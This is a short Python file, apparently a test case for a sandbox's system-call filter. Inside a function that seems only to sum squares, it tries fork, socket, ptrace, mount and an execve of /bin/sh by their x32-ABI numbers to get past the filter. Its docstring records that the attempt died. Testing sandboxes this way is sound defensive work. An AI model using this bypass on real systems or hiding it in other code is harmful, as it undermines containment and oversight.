"""Break out: system calls by their x32 numbers, which a filter by number may not know.

Goal: fork, exec, socket, ptrace and mount past the filter.
Promise: S13
Verdict: wrong, died
Needs: x86_64
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000
# write is allowed by its own number, so it tells whether x32 itself is a way in.
CALLS = [(1, 1, b"hostile by x32\n", 15), (57,), (41, 1, 1, 0), (272, 0x10000000), (39,)]
CALLS += [(520, b"/bin/sh", None, None), (521, 0, 0, 0, 0), (539, 1, None, 0, None, 0, 0)]


def total(n):
    done = []
    for number, *args in CALLS:
        answer = libc.syscall(X32 | number, *args)
        if answer == 0 and number == 57:
            libc._exit(0)
        done.append(answer >= 0)
    return sum(i * i for i in range(n + 1)) if any(done) else 0
